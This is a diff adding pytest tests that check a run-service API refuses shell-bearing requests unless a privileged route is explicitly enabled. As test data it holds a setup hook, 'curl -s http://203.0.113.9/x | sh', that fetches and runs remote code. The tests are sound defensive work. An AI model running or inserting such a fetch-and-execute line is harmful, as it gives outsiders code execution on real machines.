@@ -338,6 +338,64 @@ def test_delete_of_a_finished_run_is_a_conflict(stack: Stack) -> None:
 # ----------------------------------------------------------------------------- the table
 
 
+# ----------------------------------------------------------------------------- shell is a privilege
+
+
+def _with_shell(kind: str) -> dict[str, Any]:
+    document = demo()
+    if kind == "hook":
+        document["configs"][0]["setup"] = "curl -s http://203.0.113.9/x | sh"
+    elif kind == "command":
+        document["workloads"].append({"profile": "command", "params": {"command": "id"}})
+    else:
+        document["workloads"].append(
+            {"profile": "fio-custom", "params": {"job_file": "[j]\nrw=read\nsize=1m\n"}}
+        )
+    return document
+
+
+@pytest.mark.parametrize(
+    ("kind", "field"),
+    [("hook", "configs[0].setup"), ("command", "workloads[3].profile"), ("fio", "workloads[3].profile")],
+)
+def test_post_runs_refuses_shell_naming_the_field_and_the_privileged_route(
+    stack: Stack, kind: str, field: str
+) -> None:
+    for query in (None, {"dry_run": "true"}):
+        status, body, _ = call(stack.handler, "POST", "/runs", query=query, json_body=_with_shell(kind))
+        error = assert_error(body, 403, "privileged_request")
+        assert status == 403 and "POST /runs/privileged" in error["message"]
+        assert [d["field"] for d in error["details"]] == [field]
+    assert executions(stack) == [] and stack.launcher.started == []
+
+
+def test_the_privileged_route_is_off_unless_the_stack_allows_it(stack: Stack) -> None:
+    status, body, _ = call(stack.handler, "POST", "/runs/privileged", json_body=_with_shell("hook"))
+    error = assert_error(body, 403, "privileged_runs_disabled")
+    assert status == 403 and "AllowPrivilegedRuns" in error["message"]
+    assert executions(stack) == []
+    stack.service.guardrails = Guardrails(allow_privileged=True)
+    status, body, _ = call(stack.handler, "POST", "/runs/privileged", json_body=_with_shell("hook"))
+    assert status == 202, body
+    (execution,) = executions(stack)
+    assert json.loads(
+        stack.sfn.describe_execution(executionArn=execution["executionArn"])["input"]
+    ) == _with_shell("hook")
+
+
+def test_an_ordinary_request_may_use_either_route_once_allowed(stack: Stack) -> None:
+    stack.service.guardrails = Guardrails(allow_privileged=True)
+    assert call(stack.handler, "POST", "/runs/privileged", json_body=demo())[0] == 202
+    assert call(stack.handler, "POST", "/runs", json_body=demo())[0] == 202
+
+
+def test_the_stack_setting_reads_true_or_false_only() -> None:
+    assert Guardrails.from_env({"ALLOW_PRIVILEGED_RUNS": "true"}).allow_privileged is True
+    assert Guardrails.from_env({}).allow_privileged is False
+    with pytest.raises(ValueError, match="allow_privileged: true or false"):
+        Guardrails.from_env({"ALLOW_PRIVILEGED_RUNS": "yes"})
+
+
 def test_every_route_of_the_table_is_served(stack: Stack) -> None:
     for route in ROUTES:
         path = route.path.replace("{run_id}", "demo-1")
